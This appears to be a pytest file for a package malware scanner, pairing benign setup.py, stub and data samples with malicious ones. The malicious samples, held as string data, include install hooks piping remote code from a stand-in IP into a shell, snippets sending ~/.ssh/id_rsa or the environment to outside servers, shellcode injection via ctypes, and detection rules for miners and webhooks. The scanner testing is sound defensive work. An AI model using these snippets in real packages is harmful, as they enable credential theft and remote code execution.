"""Classes of benign behaviour stay low (issue 12, part 2), each from a small synthetic snippet,
next to the malicious technique they must not hide."""

from scans.engine import scan_archive

from .conftest import make_tgz

LOW = ("clean", "low")
BLOCKING = ("high", "critical")
SETUP_HEAD = "from setuptools import setup\n"


def scan(files: dict, rules, name: str = "widgetry", eco: str = "pypi"):
    return scan_archive(make_tgz(files, root=f"{name}-1.0/"), rules, filename=f"{name}-1.0.tar.gz", ecosystem=eco,
                        package_name=name)


# --- name similarity alone never reaches medium ------------------------------------------------

def test_a_name_near_a_popular_one_alone_stays_low(rules):
    files = {"setup.py": SETUP_HEAD + "setup(name='requestz', version='1.0')\n", "requestz/__init__.py": "VERSION = 1\n"}
    result = scan(files, rules, name="requestz")
    assert "eng_typosquat" in result.rule_ids()
    assert result.verdict in LOW


def test_a_name_near_a_popular_one_with_install_time_behaviour_is_blocked(rules):
    setup = (SETUP_HEAD + "import os, urllib.request\n"
             "data = urllib.request.urlopen('http://203.0.113.7/p').read()\nos.system(data.decode())\n"
             "setup(name='requestz', version='1.0')\n")
    result = scan({"setup.py": setup}, rules, name="requestz")
    assert next(f for f in result.findings if f.rule_id == "eng_typosquat").points == 10
    assert result.verdict in BLOCKING


# --- install-time scope: what pip really runs ---------------------------------------------------

BUILD_ONLY_OVERRIDES = SETUP_HEAD + (
    "from setuptools.command.build import build\n"
    "from setuptools.command.egg_info import egg_info\n\n"
    "class Build(build):\n    def run(self):\n        self.copy_tree('queries', self.build_lib)\n        super().run()\n\n"
    "class EggInfo(egg_info):\n    def find_sources(self):\n        super().find_sources()\n"
    "        self.filelist.include('src/*.h')\n\n"
    "class Verify(install):\n    def run(self):\n        pass\n\n"
    "setup(name='widgetry', cmdclass={'build': Build, 'egg_info': EggInfo, 'verify': Verify})\n"
)


def test_overriding_build_egg_info_or_a_maintainer_command_alone_stays_low(rules):
    result = scan({"setup.py": BUILD_ONLY_OVERRIDES.replace("class Verify(install)", "from setuptools.command.install "
                                                            "import install\nclass Verify(install)")}, rules)
    assert "sig_004" in result.rule_ids()
    assert result.verdict in LOW


def test_overriding_pips_install_command_still_weighs(rules):
    setup = SETUP_HEAD + (
        "from setuptools.command.install import install\n"
        "class PostInstall(install):\n    def run(self):\n        install.run(self)\n"
        "        __import__('os').system('curl -s http://203.0.113.7/x | sh')\n"
        "setup(name='widgetry', cmdclass={'install': PostInstall})\n")
    assert scan({"setup.py": setup}, rules).verdict in BLOCKING


# --- prose and data are not behaviour ---------------------------------------------------------

def test_install_instructions_in_pyproject_comments_stay_low(rules):
    pyproject = ("[build-system]\nrequires = ['maturin']\n"
                 "# Without Rust, install it first: curl --proto '=https' -sSf https://sh.rustup.rs | sh\n")
    result = scan({"pyproject.toml": pyproject, "widgetry/__init__.py": ""}, rules)
    assert result.verdict in LOW


def test_type_stubs_declare_and_never_run(rules):
    stub = "def VirtualAlloc(address: int, size: int, kind: int, protect: int) -> int: ...\n" \
           "def CreateRemoteThread(handle: int) -> int: ...\ndef WriteProcessMemory(h: int) -> bool: ...\n"
    result = scan({"win32-stubs/win32process.pyi": stub, "win32-stubs/__init__.pyi": ""}, rules)
    assert result.verdict in LOW


def test_the_same_calls_in_running_code_still_count(rules):
    code = ("import ctypes\nk = ctypes.windll.kernel32\nbuf = k.VirtualAlloc(0, len(sc), 0x3000, 0x40)\n"
            "k.RtlMoveMemory(buf, sc, len(sc))\nk.CreateRemoteThread(h, None, 0, buf, None, 0, None)\n")
    assert scan({"widgetry/__init__.py": code}, rules).score >= 5  # alone medium at most: CPU probes use it too


def test_bundled_json_with_placeholder_keys_stays_low(rules):
    example = ('{"examples": [{"AccessKeyId": "AKIAIOSFODNN7EXAMPLE", "SecretAccessKey": '
               '"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "private_key": "-----BEGIN RSA PRIVATE KEY-----"}],'
               '"rules": ["xmrig --donate-level", "discord.com/api/webhooks/1/abc"]}\n')
    result = scan({"widgetry/data/iam-examples.json": example, "widgetry/__init__.py": ""}, rules)
    assert result.verdict in LOW


def test_directories_named_for_tests_weigh_as_tests_however_spelled(rules):
    body = "import base64\nexec(base64.b64decode(PAYLOAD))\n"
    shipped = scan({"widgetry/loader.py": body}, rules)
    manual = scan({"manual tests/loader.py": body}, rules)
    short = scan({"t/integration/loader.py": body}, rules)
    assert manual.score < shipped.score and short.score < shipped.score
    assert manual.verdict in LOW and short.verdict in LOW


def test_a_package_named_example_is_still_shipped_code(rules):
    body = "import base64\nexec(base64.b64decode(PAYLOAD))\n"
    assert scan({"src/example_package/__init__.py": body}, rules).verdict in BLOCKING


# --- a library using its own credential -------------------------------------------------------

def test_an_sdk_sending_its_own_token_to_its_api_stays_low(rules):
    client = ("import os, requests\n\nclass Client:\n    def __init__(self):\n"
              "        self.token = os.environ.get('OPENAI_API_KEY')\n"
              "    def complete(self, prompt):\n"
              "        return requests.post('https://api.example.com/v1/complete', json={'prompt': prompt},\n"
              "                             headers={'Authorization': 'Bearer ' + self.token}).json()\n")
    result = scan({"widgetry/client.py": client, "widgetry/__init__.py": ""}, rules)
    assert "eng_combo_cred_network" not in result.rule_ids()
    assert result.verdict in LOW


def test_reading_someone_elses_credentials_and_sending_them_still_combines(rules):
    thief = ("import os, requests\n\ndef sync():\n"
             "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
             "    requests.post('https://collector.example.net/k', data=key)\n")
    result = scan({"widgetry/sync.py": thief, "widgetry/__init__.py": ""}, rules)
    assert "eng_combo_cred_network" in result.rule_ids()


# --- setup.py code for commands pip never runs ------------------------------------------------

MAINTAINER_SETUP = SETUP_HEAD + (
    "import os, sys, socket\n\n"
    "def serve_coverage(directory):\n"
    "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.bind(('localhost', 8000))\n"
    "    print('report at http://%s' % socket.gethostname())\n\n"
    "command = sys.argv[-1]\n"
    "if command == 'publish':\n"
    "    os.system('rm -rf dist')\n    os.system('python3 setup.py sdist bdist_wheel')\n"
    "    os.system('twine upload dist/*')\n    sys.exit()\n"
    "elif command == 'coverage':\n"
    "    os.system('coverage run setup.py test')\n    serve_coverage('htmlcov')\n    sys.exit()\n"
    "setup(name='widgetry', version='1.0')\n"
)


def test_setup_py_branches_for_maintainer_commands_stay_low(rules):
    result = scan({"setup.py": MAINTAINER_SETUP, "widgetry/__init__.py": ""}, rules)
    assert not any(f.rule_id.startswith("eng_combo") for f in result.findings)
    assert result.verdict in LOW


def test_the_same_calls_at_setup_py_top_level_or_in_an_install_hook_still_count(rules):
    top_level = MAINTAINER_SETUP.replace("if command == 'publish':", "if command != 'publish':")
    assert scan({"setup.py": top_level}, rules).score > scan({"setup.py": MAINTAINER_SETUP}, rules).score
    hooked = SETUP_HEAD + (
        "import os, urllib.request\nfrom setuptools.command.install import install\n\n"
        "def fetch():\n    os.system(urllib.request.urlopen('http://203.0.113.7/s').read().decode())\n\n"
        "class Post(install):\n    def run(self):\n        fetch()\n        install.run(self)\n\n"
        "setup(name='widgetry', cmdclass={'install': Post})\n")
    assert scan({"setup.py": hooked}, rules).verdict in BLOCKING


def test_copying_the_environment_for_a_child_process_next_to_http_stays_low(rules):
    runner = ("import os, subprocess, requests\n\n"
              "def run_tool(args):\n    env = {k: v for k, v in os.environ.items() if k.startswith('TOOL_')}\n"
              "    return subprocess.run(args, env=env)\n\n"
              "def latest_version():\n    return requests.get('https://pypi.org/pypi/widgetry/json').json()\n")
    result = scan({"widgetry/runner.py": runner, "widgetry/__init__.py": ""}, rules)
    assert "eng_combo_cred_network" not in result.rule_ids()
    assert result.verdict in LOW


def test_dumping_the_environment_to_a_server_still_combines(rules):
    thief = ("import os, json, requests\n\n"
             "requests.post('http://203.0.113.9/e', data=json.dumps(dict(os.environ)))\n")
    assert "eng_combo_cred_network" in scan({"widgetry/env.py": thief}, rules).rule_ids()


def test_test_data_of_a_security_tool_stays_low(rules):
    detections = ('{"rules": [{"name": "miner", "match": "xmrig --donate-level stratum+tcp://pool.example"},'
                  ' {"name": "exfil", "match": "discord.com/api/webhooks/ and pastebin.com/raw"},'
                  ' {"name": "persist", "match": "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"}]}\n')
    result = scan({"tests/data/threat-rules.json": detections, "widgetry/__init__.py": ""}, rules)
    assert result.verdict in LOW


def test_many_test_files_with_loader_samples_add_up_to_little(rules):
    sample = "import base64, os\nexec(base64.b64decode(CASE))\nos.system(cmd)\nrequests.post(url, data=os.environ)\n"
    files = {f"tests/test_case_{i}.py": sample for i in range(12)}
    files["widgetry/__init__.py"] = ""
    result = scan(files, rules)
    assert result.score <= 9
    shipped = scan({"widgetry/__init__.py": "", "widgetry/loader.py": sample}, rules)
    assert shipped.verdict in BLOCKING
